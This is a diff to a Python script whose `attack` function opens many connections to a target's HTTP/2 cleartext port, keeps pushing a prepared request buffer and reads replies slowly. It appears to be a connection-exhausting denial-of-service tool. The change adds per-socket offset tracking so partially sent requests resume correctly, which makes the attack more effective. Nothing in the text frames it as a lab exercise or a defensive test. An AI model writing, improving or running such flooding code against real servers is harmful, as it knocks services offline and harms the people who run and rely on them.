@@ -22,10 +22,10 @@ def connect(port):
     return sock
 
 
-def push(sock):
-    """Bytes that were taken; None: the connection is over."""
+def push(sock, at):
+    """Bytes that were taken from the `at`-th on, which may be in the middle of a request; None: the connection is over."""
     try:
-        return sock.send(AHEAD)
+        return sock.send(AHEAD[at % len(AHEAD):])
     except BlockingIOError:
         return 0
     except OSError:
@@ -41,24 +41,27 @@ def sip(sock):
 
 def attack(target, stop, connections=CONNECTIONS):
     counts = {"opened": 0, "bytes": 0, "bytes_read": 0, "closed": 0}
-    held, sips, began = [], 0, time.monotonic()
+    held, sips, began, sent = [], 0, time.monotonic(), {}
     most = max(1, int(connections * target.share))
     while not stop.is_set():
         passed = time.monotonic() - began
         while len(held) < most and counts["opened"] + counts["closed"] < OPENS_PER_S * target.share * (passed + 1):
             try:
                 held.append(connect(target.h2c))
+                sent[held[-1]] = 0
                 counts["opened"] += 1
             except OSError:
                 counts["closed"] += 1
         for sock in select.select([], held, [], 0.02)[1] if held else []:
-            taken = push(sock)
+            taken = push(sock, sent[sock])
             if taken is None:
                 sock.close()
                 held.remove(sock)
+                del sent[sock]
                 counts["closed"] += 1
             else:
                 counts["bytes"] += taken
+                sent[sock] += taken
         while held and sips < SIPS_PER_S * target.share * passed:
             sips += 1
             counts["bytes_read"] += sip(held[sips % len(held)])
